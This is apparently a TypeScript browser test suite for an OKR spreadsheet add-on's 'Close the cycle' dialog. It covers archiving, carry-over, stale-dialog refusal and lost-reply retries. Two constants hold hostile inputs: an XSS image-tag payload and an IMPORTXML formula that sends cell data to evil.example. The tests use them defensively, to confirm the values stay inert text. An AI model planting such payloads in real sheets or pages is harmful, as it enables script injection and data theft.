// The Close the cycle dialog (dist/CloseCycle.html) in headless Chromium, 720 ×
// 600, its google.script.run calls running the real getCycleReview and
// closeCycle of dist/Code.js in the in-memory runtime, on the workbook set up
// with the example OKRs (late in 2026-Q4). What the dialog shows is compared
// with the server's review, and what closing wrote with the Archive and Key
// Results tabs. The dialog's own behaviour against exact replies (hostile
// text, refusals, double clicks, the keyboard) is close-cycle.stand-in.browser.test.ts.
import AxeBuilder from '@axe-core/playwright';
import type { Page } from 'playwright-core';
import { afterEach, expect, test } from 'vitest';
import { DEFAULT_USER, type Runtime } from '../../dev/runtime/index';
import type { CycleReview } from '../../src/shared/cycle-review-api';
import { fill, records } from '../addon/workbook';
import { openPanel, seededWorkbook, type Harness } from './harness';

/** The workbook's owner, who set it up and closes the cycle. */
const OWNER = DEFAULT_USER;
/** What a reflection or a title may hold: it must reach the Archive, and the screen, as these characters. */
const HOSTILE_REFLECTION = '<img src=x onerror="window.__pwned = 1"> =IMPORTXML("https://evil.example/?q="&A1, "//a")';
const HOSTILE_TITLE = '<img src=x onerror="window.__pwned = 2">';

let harness: Harness | undefined;
afterEach(async () => {
  await harness?.close();
  harness = undefined;
});

async function open(rt: Runtime, id: string): Promise<Page> {
  harness = await openPanel(rt, id, OWNER, { file: 'CloseCycle', width: 720 });
  const page = harness.page;
  await page.setViewportSize({ width: 720, height: 600 });
  await expect.poll(() => page.locator('#app').getAttribute('aria-busy'), { timeout: 15_000 }).toBeNull();
  return page;
}

function review(rt: Runtime, id: string): CycleReview {
  const reply = rt.runFromPage('getCycleReview', { spreadsheetId: id, user: OWNER, args: [] });
  if (!reply.ok) throw new Error(reply.error);
  return reply.value as CycleReview;
}

/** A tab's whole grid, to compare before and after. */
const grid = (rt: Runtime, id: string, tab: string) => JSON.stringify(rt.store.values(id, tab));

test('lists what the server reviews, figure for figure, with hostile titles as text; no axe violation', async () => {
  const { rt, id } = seededWorkbook();
  // A person's title that would be HTML if the dialog ever read it as such: EX-O2's.
  const objectives = rt.store.values(id, 'Objectives');
  const row = objectives.findIndex((r) => r[0] === 'EX-O2');
  fill(rt, id, 'Objectives', [[HOSTILE_TITLE]], row + 1, objectives[0]!.indexOf('Objective') + 1);
  const expected = review(rt, id);
  expect(expected.objectives[1]!.title).toBe(HOSTILE_TITLE);
  const page = await open(rt, id);

  expect(await page.locator('.objective h2 .title').allTextContents()).toEqual(expected.objectives.map((o) => o.title));
  const shown = await page
    .locator('.objective tbody tr')
    .evaluateAll((trs) => trs.map((tr) => Array.from(tr.children, (cell) => cell.textContent)));
  const pct = (p: number | null) => (p === null ? 'no data yet' : `${Math.round(p * 100)}%`);
  const score = (s: number | null) => (s === null ? '—' : s.toFixed(1));
  expect(shown.map((cells) => cells.slice(1, 5))).toEqual(
    expected.objectives.flatMap((o) => [o, ...o.keyResults].map((x) => [pct(x.progress), score(x.score), x.status, String(x.checkins)])),
  );
  const unfinished = expected.objectives.flatMap((o) => o.keyResults.filter((kr) => !kr.done));
  expect(await page.getByRole('checkbox').count()).toBe(unfinished.length);
  expect(await page.locator('.notices li').allTextContents()).toEqual(expected.notices);
  expect(await page.locator('.summary').textContent()).toBe(
    'Closing 2026-Q4 archives 3 objectives and 9 key results, carries nothing over, and makes 2027-Q1 the current cycle.',
  );
  expect(await page.locator('main img').count()).toBe(0);
  expect((await new AxeBuilder({ page }).analyze()).violations.map((v) => v.id)).toEqual([]);
  expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
}, 60_000);

test('closing writes the Archive as shown, keeps a hostile reflection verbatim, carries the ticked key result over, and moves "now"', async () => {
  const { rt, id } = seededWorkbook();
  const before = review(rt, id);
  const page = await open(rt, id);
  await page.getByRole('textbox', { name: 'What we learned (EX-O1)' }).fill(HOSTILE_REFLECTION);
  await page.getByRole('textbox', { name: 'What we learned (EX-O3)' }).fill('Weekly deploys need a checklist first.');
  await page.getByRole('checkbox', { name: /\(EX-KR2\)/ }).check();
  expect(await page.locator('.summary').textContent()).toBe(
    'Closing 2026-Q4 archives 3 objectives and 9 key results, carries 1 key result over to 2027-Q1, and makes 2027-Q1 the current cycle.',
  );
  await page.getByRole('button', { name: 'Close 2026-Q4…' }).click();
  await page.getByRole('button', { name: 'Yes, close 2026-Q4' }).click();
  await expect
    .poll(() => page.locator('.result').textContent(), { timeout: 15_000 })
    .toBe(
      '2026-Q4 is closed: 12 rows were added to the Archive tab, 1 key result was carried over to 2027-Q1, and 2027-Q1 is now the current cycle.',
    );
  expect(harness!.calls).toEqual(['getCycleReview', 'closeCycle']);

  // One Archive row per objective and key result, in the dialog's order, with the figures it showed.
  const archive = records(rt, id, 'Archive');
  const listed = before.objectives.flatMap((o) => [o, ...o.keyResults]);
  expect(archive.map((r) => [r.Cycle, r.Kind, r.ID])).toEqual(
    before.objectives.flatMap((o) => [['2026-Q4', 'objective', o.id], ...o.keyResults.map((kr) => ['2026-Q4', 'key result', kr.id])]),
  );
  expect(archive.map((r) => [r.Progress, r.Score])).toEqual(listed.map((x) => [x.progress ?? '', x.score ?? '']));
  expect(Object.fromEntries(archive.filter((r) => r.Reflection !== '').map((r) => [r.ID, r.Reflection]))).toEqual({
    'EX-O1': HOSTILE_REFLECTION,
    'EX-O3': 'Weekly deploys need a checklist first.',
  });
  // The carried key result starts 2027-Q1 under its new id; the new cycle is "now" for the next review.
  expect(records(rt, id, 'Key Results').filter((r) => String(r.ID).startsWith('EX-KR2'))).toHaveLength(2);
  const after = review(rt, id);
  expect(after.cycle).toBe('2027-Q1');
  expect(after.objectives.flatMap((o) => o.keyResults.map((kr) => kr.id))).toEqual(['EX-KR2-2027Q1']);

  await page.getByRole('button', { name: 'Close' }).click();
  expect(await page.evaluate(() => (window as unknown as { __okrClosed?: boolean }).__okrClosed)).toBe(true);
}, 60_000);

test('a stale dialog is refused by the server: the message shows as an error, nothing changes, what was typed stays', async () => {
  const { rt, id } = seededWorkbook();
  const page = await open(rt, id);
  // Someone closes 2026-Q4 from another window while this dialog is open.
  const elsewhere = rt.runFromPage('closeCycle', {
    spreadsheetId: id,
    user: OWNER,
    args: [{ cycle: '2026-Q4', nextCycle: '2027-Q1', reflections: {}, carryOver: [] }],
  });
  expect(elsewhere).toMatchObject({ ok: true });
  const tabs = ['Archive', 'Objectives', 'Key Results', 'Settings'].map((tab) => grid(rt, id, tab));

  await page.getByRole('textbox', { name: 'What we learned (EX-O2)' }).fill(HOSTILE_REFLECTION);
  await page.getByRole('checkbox', { name: /\(EX-KR4\)/ }).check();
  await page.getByRole('button', { name: 'Close 2026-Q4…' }).click();
  await page.getByRole('button', { name: 'Yes, close 2026-Q4' }).click();
  await expect
    .poll(() => page.locator('[role=alert]').textContent(), { timeout: 15_000 })
    .toMatch(/^Closing 2026-Q4 did not go through: \S/);
  const message = (await page.locator('[role=alert]').textContent())!;
  expect(message).not.toMatch(/Error:|Exception:|at \w+ \(/);
  expect(await page.locator('.result').count()).toBe(0);
  expect(['Archive', 'Objectives', 'Key Results', 'Settings'].map((tab) => grid(rt, id, tab))).toEqual(tabs);
  expect(await page.getByRole('textbox', { name: 'What we learned (EX-O2)' }).inputValue()).toBe(HOSTILE_REFLECTION);
  expect(await page.getByRole('checkbox', { name: /\(EX-KR4\)/ }).isChecked()).toBe(true);
  expect(await page.getByRole('button', { name: 'Close 2026-Q4…' }).isEnabled()).toBe(true);
}, 60_000);

test('a reply lost on the way is an error; closing again is refused, and the Archive holds the cycle once', async () => {
  const { rt, id } = seededWorkbook();
  const page = await open(rt, id);
  await page.getByRole('textbox', { name: 'What we learned (EX-O1)' }).fill('Kept once.');
  harness!.loseNextReply = true;
  await page.getByRole('button', { name: 'Close 2026-Q4…' }).click();
  await page.getByRole('button', { name: 'Yes, close 2026-Q4' }).click();
  await expect
    .poll(() => page.locator('[role=alert]').textContent(), { timeout: 15_000 })
    .toBe('Closing 2026-Q4 did not go through: We are sorry, a server error occurred. Please wait a bit and try again.');
  // The server did close it; the person, not knowing, tries again.
  expect(records(rt, id, 'Archive')).toHaveLength(12);
  await page.getByRole('button', { name: 'Close 2026-Q4…' }).click();
  await page.getByRole('button', { name: 'Yes, close 2026-Q4' }).click();
  await expect
    .poll(() => page.locator('[role=alert]').textContent(), { timeout: 15_000 })
    .toBe('Closing 2026-Q4 did not go through: 2026-Q4 was already closed on 2026-11-30: the Archive keeps it. Nothing was changed.');
  expect(await page.locator('.result').count()).toBe(0);
  expect(records(rt, id, 'Archive')).toHaveLength(12);
  expect(records(rt, id, 'Archive').filter((r) => r.Reflection === 'Kept once.')).toHaveLength(1);
  expect(harness!.calls).toEqual(['getCycleReview', 'closeCycle', 'closeCycle']);
}, 60_000);
